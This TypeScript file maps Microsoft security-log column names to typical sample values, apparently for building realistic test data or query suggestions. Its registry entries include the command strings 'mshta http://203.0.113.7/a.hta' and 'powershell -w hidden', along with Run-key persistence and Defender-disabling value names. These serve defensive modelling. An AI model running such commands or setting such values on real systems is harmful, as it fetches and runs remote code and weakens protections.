/** Usual values of columns by name, separated by `;` (`-` is the empty text). What tables share has one list. */
const VALUES = `
ResultType: 0;0;0;50126;50053;50034;50055;50057;50074;50076;50079;50097;50105;50125;50140;50158;50173;53003;53000;500121;65001;70043;70044;700016;7000215;7000222;530032;Success
ErrorCode: 0;0;50126;53003;50105;7000222;500121;50158;50074
ResultSignature: SUCCESS;FAILURE;None;OK;Forbidden
ResultDescription: -;Successfully completed reset.;Success;Invalid username or password.;Access has been blocked by Conditional Access policies.;MFA denied; User canceled;Other
Result: success;success;success;failure
ResultReason: -;Successfully completed reset.;User registered Authenticator App with Notification and Code;User registered temporary access pass method;Microsoft.Online.Workflows.SpnAlreadyExistsException
ResultStatus: Success;Succeeded;True;False;Failed;PartiallySucceeded
Level: 4;Informational;Warning;Error
Location: GB;NL;DE;US;RO;NG;RU;VN;BR;SG
Country: GB;NL;DE;US;RO;NG;RU;VN;BR;SG
CountryCode: GB;NL;DE;US;RO;NG;RU;VN;BR;SG
City: Leeds;Rotterdam;Leipzig;Bucharest;Lagos;Ashburn
ISP: Example Telecom;Documentation Hosting;Mobile Carrier
Isp: Example Telecom;Documentation Hosting;Mobile Carrier
AppDisplayName: Azure Portal;Microsoft Office;OfficeHome;Microsoft Teams;My Apps;My Profile;My Signins;Windows Sign In;Microsoft Azure CLI;Microsoft Azure PowerShell;Microsoft App Access Panel;Office 365 Exchange Online;Microsoft Invitation Acceptance Portal;Microsoft Authentication Broker;Microsoft Graph Command Line Tools;Visual Studio;Microsoft Account Controls V2;Microsoft Office Web Apps Service;Azure Active Directory PowerShell;GitHub Enterprise;DocuSign
AppId: c44b4083-3bb0-49c1-b47d-974e53cbdf3c;04b07795-8ddb-461a-bbee-02f9e1bf7b46;1950a258-227b-4e31-a9cf-717495945fc2;4765445b-32c6-49b0-83e6-1d93765276ca;1fec8e78-bce4-4aaf-ab1b-5451cc387264;29d9ed98-a469-4536-ade2-f981bc1d605e;1b730954-1685-4b74-9bfd-dac224a7b894;14d82eec-204b-4c2f-b7e8-296a70dab67e;d3590ed6-52b3-4102-aeff-aad2292ab01c;00000003-0000-0000-c000-000000000000
ResourceDisplayName: Microsoft Graph;Windows Azure Service Management API;Office 365 Exchange Online;Office 365 SharePoint Online;Windows Azure Active Directory;Azure Key Vault;Azure Storage;Device Registration Service
ClientAppUsed: Browser;Browser;Mobile Apps and Desktop clients;Exchange ActiveSync;Exchange Web Services;Authenticated SMTP;IMAP4;POP3;Other clients;AutoDiscover;MAPI Over HTTP;Offline Address Book;Unknown
ClientCredentialType: clientSecret;clientAssertion;certificate
AuthenticationRequirement: singleFactorAuthentication;multiFactorAuthentication
AuthenticationProtocol: none;deviceCode;ropc;oAuth2;saml20
ConditionalAccessStatus: success;failure;notApplied
IncomingTokenType: none;primaryRefreshToken;refreshToken;saml11
CrossTenantAccessType: none;b2bCollaboration;passthrough;serviceProvider
TokenIssuerType: AzureAD;ADFederationServices
RiskLevelDuringSignIn: none;none;low;medium;high;hidden
RiskLevelAggregated: none;none;low;medium;high;hidden
RiskLevel: none;low;medium;high
RiskState: none;none;atRisk;remediated;dismissed;confirmedCompromised;confirmedSafe
RiskDetail: none;userPassedMFADrivenByRiskBasedPolicy;adminConfirmedUserCompromised;adminDismissedAllRiskForUser;aiConfirmedSigninSafe;userPerformedSecuredPasswordReset
RiskEventType: unfamiliarFeatures;anonymizedIPAddress;maliciousIPAddress;leakedCredentials;passwordSpray;unlikelyTravel;mcasImpossibleTravel;newCountry;anomalousToken;tokenIssuerAnomaly;suspiciousInboxForwarding;mcasSuspiciousInboxManipulationRules;investigationsThreatIntelligence;attemptedPrtAccess;userReportedSuspiciousActivity
DetectionTimingType: realtime;nearRealtime;offline
RiskEventTypes: [];["unfamiliarFeatures"];["anonymizedIPAddress"];["passwordSpray"]
RiskEventTypes_V2: [];["unfamiliarFeatures"];["anonymizedIPAddress"];["anomalousToken"]
NetworkLocationDetails: [];[{"networkType":"trustedNamedLocation","networkNames":["Head office"]}];[{"networkType":"namedNetwork","networkNames":["Branch"]}]
UserType: Member;Member;Guest;Regular;Admin;System;Application
LoggedByService: Core Directory;PIM;Self-service Password Management;Authentication Methods;Device Registration Service;Invited Users;Conditional Access;Access Reviews;B2C;Application Proxy;MFA
AADOperationType: Add;Update;Delete;Assign;Unassign
OperationType: Add;Update;Delete;Assign
ActivityStatusValue: Success;Success;Start;Accept;Failure;Succeeded
ActivityStatus: Succeeded;Succeeded;Started;Accepted;Failed
ActivitySubstatusValue: OK;Created;Forbidden;Conflict;-
CategoryValue: Administrative;Administrative;Security;Policy;ServiceHealth;ResourceHealth
ResourceProviderValue: MICROSOFT.COMPUTE;MICROSOFT.STORAGE;MICROSOFT.NETWORK;MICROSOFT.KEYVAULT;MICROSOFT.AUTHORIZATION;MICROSOFT.SECURITYINSIGHTS
ResourceProvider: MICROSOFT.KEYVAULT;MICROSOFT.NETWORK;MICROSOFT.SQL;MICROSOFT.SECURITYINSIGHTS
ResourceType: VAULTS;APPLICATIONGATEWAYS;AZUREFIREWALLS;SERVERS/DATABASES;NETWORKSECURITYGROUPS
OfficeWorkload: Exchange;SharePoint;OneDrive;MicrosoftTeams;AzureActiveDirectory
Workload: Exchange;SharePoint;OneDrive;Email;Teams;AzureActiveDirectory;Defender;Microsoft365Defender
RecordType: ExchangeAdmin;ExchangeItem;ExchangeItemAggregated;SharePointFileOperation;SharePointSharingOperation;MicrosoftTeams;AzureActiveDirectory;DLPEndpoint;DataInsightsRestApiAudit
ItemType: File;Folder;Web;Site;Page
EventSource: SharePoint;ObjectModel
Logon_Type: Owner;Admin;Delegated
CommunicationType: Team;Channel;OneToOne;GroupChat
ChannelType: Public;Private
OperationScope: Team;Chat;User
AddOnType: App;Tab;Bot;Connector
SourceFileExtension: docx;xlsx;pdf;zip;csv;one;iso;exe;aspx
Severity: High;Medium;Low;Informational;Critical
AlertSeverity: High;Medium;Low;Informational
VulnerabilitySeverityLevel: Critical;High;Medium;Low
Status: New;Active;Closed;InProgress;Resolved;Dismissed
Classification: TruePositive;BenignPositive;FalsePositive;Undetermined;-
ClassificationReason: SuspiciousActivity;SuspiciousButExpected;IncorrectAlertLogic;InaccurateData
ProviderName: MDATP;ASI Scheduled Alerts;ASI NRT Alerts;OATP;MCAS;IPC;MTP;Azure Security Center;Azure Advanced Threat Protection;Microsoft XDR;Azure Sentinel
VendorName: Microsoft
ProductName: Microsoft Defender Advanced Threat Protection;Azure Sentinel;Office 365 Advanced Threat Protection;Microsoft Cloud App Security;Azure Active Directory Identity Protection;Azure Security Center;Azure Advanced Threat Protection;Microsoft 365 Defender
AlertName: Anomalous Token;Activity from infrequent country;Impossible travel activity;Suspicious PowerShell command line;Email messages containing malicious URL removed after delivery;Email messages containing phish URLs removed after delivery;Email reported by user as malware or phish;Suspected Golden Ticket usage;User and group membership reconnaissance (SAMR);Activity from a password-spray associated IP address;Communication with possible phishing domain;Unfamiliar sign-in properties;Suspicious inbox forwarding;Malware was detected in an iso disc image file;Attempted communication with suspicious sinkholed domain;Mass download by a single user
Title: Suspicious PowerShell command line;Suspicious Lsass Process Access;AD reconnaissance activities;Process related to possible AD reconnaissance;Bloodhound post-exploitation tool;Successful logon using overpass-the-hash with potentially stolen credentials;Command line used for possible overpass-the-hash;Password spray;Impossible travel;Ransomware behavior detected;CVE-2021-1000 exploit;Possible AiTM phishing
Tactics: InitialAccess;CredentialAccess;Persistence;DefenseEvasion;Discovery;Exfiltration;Impact;Unknown;InitialAccess, Persistence
Techniques: ["T1078"];["T1110"];["T1566"];["T1059"];[]
AttackTechniques: ["Valid Accounts (T1078)"];["PowerShell (T1059.001)"];["Phishing (T1566)"];["LSASS Memory (T1003.001)"];["Password Spraying (T1110.003)"];-
Category: UserManagement;GroupManagement;ApplicationManagement;RoleManagement;Policy;Device;Authentication;DirectoryManagement;EntitlementManagement;SignInLogs;NonInteractiveUserSignInLogs;InitialAccess;CredentialAccess;Execution;Ransomware;AuditEvent;ApplicationGatewayFirewallLog;ApplicationGatewayAccessLog;AzureFirewallNetworkRule;Administrative
ServiceSource: Microsoft Defender for Endpoint;Microsoft Defender for Office 365;Microsoft Defender for Identity;Microsoft Cloud App Security;Microsoft Sentinel;AAD Identity Protection
DetectionSource: EDR;Antivirus;Custom detection;Microsoft Defender for Office 365;Scheduled Alerts;Microsoft Cloud App Security
EntityType: User;Machine;Process;Ip;Url;File;MailMessage;Mailbox;CloudApplication;CloudResource;RegistryValue
EvidenceRole: Impacted;Related
ThreatFamily: -;Emotet;Qakbot;Mimikatz
Protocol: Tcp;Udp;TCP;UDP;Kerberos;Ntlm;Ldap;HTTPS;Icmp
LogonType: Interactive;RemoteInteractive;Network;Batch;Service;CachedInteractive;Unlock;Credentials validation;LDAP cleartext;Resource access;["interactiveUser"];["nonInteractiveUser"]
FailureReason: WrongPassword;AccountDisabled;InvalidUserNameOrPassword;UnknownUser;AccountLocked;OldPassword;Generic
RemoteIPType: Public;Private;Loopback;FourToSixMapping;Teredo;Reserved
LocalIPType: Private;Public;Loopback;FourToSixMapping
InitiatingProcessIntegrityLevel: System;High;Medium;Low
ProcessIntegrityLevel: System;High;Medium;Low
InitiatingProcessTokenElevation: TokenElevationTypeDefault;TokenElevationTypeFull;TokenElevationTypeLimited
ProcessTokenElevation: TokenElevationTypeDefault;TokenElevationTypeFull;TokenElevationTypeLimited
InitiatingProcessVersionInfoCompanyName: Microsoft Corporation;Google LLC;Example Software
InitiatingProcessVersionInfoProductName: Microsoft Windows Operating System;Microsoft Office;PsExec
ProcessVersionInfoCompanyName: Microsoft Corporation;Sysinternals - www.sysinternals.com;Example Software
FileOriginReferrerUrl: -;https://mail.example/;https://www.google.com/
RegistryKey: HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run;HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce;HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU;HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinDefend;HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa;HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender;HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server
RegistryValueName: Updater;a;Start;DisableAntiSpyware;fDenyTSConnections;RunAsPPL;UseLogonCredential;DisableRealtimeMonitoring
RegistryValueType: String;Dword;Binary;ExpandString
RegistryValueData: C:\\Users\\Public\\u.exe;1;0;4;powershell -w hidden;mshta http://203.0.113.7/a.hta
DeviceType: Workstation;Server;Mobile;Desktop
DeviceCategory: Endpoint;NetworkDevice;IoT
DeviceSubtype: Workstation;Server;Printer
JoinType: AAD Joined;Domain Joined;Hybrid Azure AD Join
OnboardingStatus: Onboarded;Can be onboarded;Unsupported;Insufficient info
SensorHealthState: Active;Inactive;Misconfigured;ImpairedCommunication
ExposureLevel: High;Medium;Low
ExclusionReason: -
MachineGroup: Workstations;Servers;-
OSVersion: 10.0;11.0;22H2
OSVersionInfo: 22H2;23H2;21H2;1607
OSArchitecture: 64-bit
OSDistribution: Windows10;Windows11;WindowsServer2022;Ubuntu
Vendor: Microsoft;Realtek;Apple;Google
Model: Virtual Machine;Latitude 7440;MacBookPro
SoftwareVendor: microsoft;google;openssl;apache;adobe;tukaani
SoftwareName: edge_chromium-based;chrome;openssl;log4j;acrobat_reader_dc;xz;office;teamviewer;anydesk;windows_10
SoftwareVersion: 3.0.5.0;5.6.1.0;5.6.0.0;2.14.1.0;120.0.1.0;10.0.19045.4291;3.0.2.0
EndOfSupportStatus: -;EOS Version;EOS Software;Upcoming EOS Version
RecommendedSecurityUpdate: March 2026 Security Updates;-
ConfigurationId: scid-2000;scid-91;scid-2010;scid-2011;scid-2012;scid-20;scid-3001
ConfigurationName: Turn on Microsoft Defender Antivirus;Disable SMBv1;Enable LSA protection;Turn on real-time protection
ConfigurationCategory: Security controls;OS;Network;Accounts
ConfigurationSubcategory: Antivirus;EDR;Firewall
ConfigurationImpact: 9;5;8
ConfidenceLevel: {"Phish":"High"};{"Spam":"Normal"};-
DeliveryAction: Delivered;Delivered;Junked;Blocked;Replaced
DeliveryLocation: Inbox/folder;Inbox/folder;Junk folder;Quarantine;Dropped;On-premises/external;Deleted items
LatestDeliveryAction: Delivered;Junked;Blocked
LatestDeliveryLocation: Inbox/folder;Quarantine;Junk folder
EmailDirection: Inbound;Inbound;Outbound;Intra-org
EmailLanguage: en;de;nl
EmailAction: -;Move message to Junk Email folder;Quarantine message
OrgLevelAction: -;Allow;Block
ThreatTypes: -;-;Phish;Malware;Spam;Phish, Malware
ThreatNames: -;Emotet;Trojan.HTML.Phish
DetectionMethods: -;{"Phish":["URL detonation reputation"]};{"Malware":["File detonation"]};{"Phish":["Spoof DMARC"]}
AuthenticationDetails: {"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"};{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}
SenderDisplayName: IT Support;Accounts;Delivery desk;Microsoft account team;CEO
SenderFromDomain: partner.example;login-verify.example;news.example;gmail.com
SenderMailFromDomain: partner.example;login-verify.example;bounce.example;gmail.com
Subject: Invoice overdue;Password expires today;Your parcel is waiting;RE: Contract;[EXTERNAL] Shared document;Voicemail;Action required
FileType: docx;zip;html;iso;pdf;one;exe
UrlLocation: Body;Header;Attachment;QRCode
UrlDomain: login-verify.example;docs.contract.example;dropbox.com;bit.ly;ipfs.io
Application: Microsoft Exchange Online;Microsoft Teams;Microsoft SharePoint Online;Microsoft OneDrive for Business;Office 365;OfficeHome;Active Directory;Microsoft Azure;Microsoft 365;Microsoft Defender for Endpoint;GitHub
ActivityType: Create;Delete;Edit;View;Login;Run;FailedLogin;Download
AccountType: Regular;Admin;System;Application;Guest
UserAgentTags: ["Native client"];["Outdated browser"];[]
IPCategory: Administrative;Corporate;Cloud provider;Risky;Other;None
ObjectType: File;User;Application;Rule;Policy
AuditSource: Defender for Cloud Apps access control;Defender for Cloud Apps app connector
AssignedRoles: [];["Global Administrator"];["Exchange Administrator"];["SharePoint Administrator","Teams Administrator"];["User Administrator"]
Department: Sales;Finance;Engineering;IT;Legal
JobTitle: Engineer;Manager;Administrator
Tags: [];["Sensitive"];["Honeytoken"]
BlastRadius: High;Medium;Low
SourceSystem: AzureActiveDirectory;ActiveDirectory;Hybrid;Azure AD;Azure
SourceProvider: AzureActiveDirectory;ActiveDirectory;Okta
RequestMethod: GET;GET;POST;PATCH;DELETE;PUT
ApiVersion: v1.0;beta
IdentityProvider: AAD
httpMethod_s: GET;POST
requestMethod_s: GET;POST
httpStatus_d: 200;404;403
action_s: Blocked;Matched;Detected
Message: SQL Injection Attack: Common Injection Testing Detected;Remote Command Execution: Unix Shell Code Found;Path Traversal Attack (/../);Mandatory rule. Cannot be disabled. Inbound Anomaly Score Exceeded
ruleId_s: 942100;932100;930110;949110;941100
AuthenticationMethodsUsed: -;Password;Mobile app notification;Text message
AuthenticationType: OAuth;AccountKey;SAS;Anonymous;DelegationSas;Kerberos
FlowDirection: Inbound;Outbound
FlowStatus: Allowed;Denied
FlowType: ExternalPublic;AzurePublic;IntraVNet;InterVNet;MaliciousFlow
L4Protocol: T;U
Computer: srv1;srv2;laptop1
OSType: Windows;Linux
Solution: security;SecurityInsights
DataType: SigninLogs;AuditLogs;AzureActivity;SecurityEvent;CommonSecurityLog
Facility: auth;authpriv;cron;daemon
SeverityLevel: info;err;warning;crit
ProcessName: sshd;sudo;cron
DeviceVendor: Palo Alto Networks;Fortinet;Check Point;Zscaler
DeviceAction: allow;deny;drop
ThreatType: Botnet;C2;Phishing;Malware
IndicatorType: ipv4-addr;url;domain-name;file
Action: Allow;Deny;alert;block
Query: SigninLogs | take 10;search *;AuditLogs | where OperationName == "Add user"
RuleName: .;..;RSS;Newsletters;a
`;

const TABLE = new Map<string, readonly string[]>(
  VALUES.trim()
    .split('\n')
    .map((line) => {
      const colon = line.indexOf(':');
      const values = line.slice(colon + 1).split(';');
      return [line.slice(0, colon).trim(), values.map((value) => (value.trim() === '-' ? '' : value.trim()))];
    }),
);

export function usualValues(column: string): readonly string[] | undefined {
  return TABLE.get(column);
}
